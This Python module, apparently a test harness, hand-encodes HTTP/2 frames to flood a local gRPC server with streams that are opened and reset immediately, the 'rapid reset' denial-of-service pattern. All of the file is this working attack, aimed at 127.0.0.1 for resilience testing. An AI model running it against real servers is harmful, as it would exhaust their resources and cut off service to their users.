"""A client that opens HTTP/2 streams only to reset them at once, by the thousand: frames as bytes, no library."""

from __future__ import annotations

import asyncio
import struct
from collections.abc import AsyncIterator, Mapping
from contextlib import asynccontextmanager

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0, 1, 3, 4, 6, 7
ACK = END_STREAM = 0x1
END_HEADERS = 0x4
CANCEL = struct.pack(">I", 8)
EMPTY_MESSAGE = bytes(5)
"""gRPC's frame of a message of no bytes."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One HTTP/2 frame."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def headers_of(path: str, further: Mapping[str, str] | None = None) -> bytes:
    """The headers of a gRPC call, as literals that enter no table."""
    fields = {
        ":method": "POST",
        ":scheme": "http",
        ":path": path,
        ":authority": "test",
        "content-type": "application/grpc",
        "te": "trailers",
        **(further or {}),
    }
    return b"".join(
        b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
        for name, value in fields.items()
    )


def resets(path: str, streams: int) -> bytes:
    """So many calls of a method without a message in them, each reset as soon as it is sent."""
    headers = headers_of(path)
    return b"".join(
        frame(HEADERS, END_HEADERS, stream, headers)
        + frame(DATA, END_STREAM, stream, EMPTY_MESSAGE)
        + frame(RST_STREAM, 0, stream, CANCEL)
        for stream in range(1, 2 * streams, 2)
    )


@asynccontextmanager
async def attacking(port: int, path: str, streams: int) -> AsyncIterator[asyncio.Task[None]]:
    """A connection on which so many streams are opened and reset; the task ends when all of them are sent."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)

    async def drain_answers() -> None:
        while header := await reader.read(9):
            header += await reader.readexactly(9 - len(header))
            payload = await reader.readexactly(int.from_bytes(header[:3], "big"))
            if header[3] == PING and not header[4] & ACK:
                writer.write(frame(PING, ACK, 0, payload))

    async def attack() -> None:
        writer.write(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0) + resets(path, streams))
        await writer.drain()

    answers, sending = asyncio.create_task(drain_answers()), asyncio.create_task(attack())
    try:
        yield sending
    finally:
        for task in (sending, answers):
            task.cancel()
        await asyncio.gather(sending, answers, return_exceptions=True)
        writer.close()
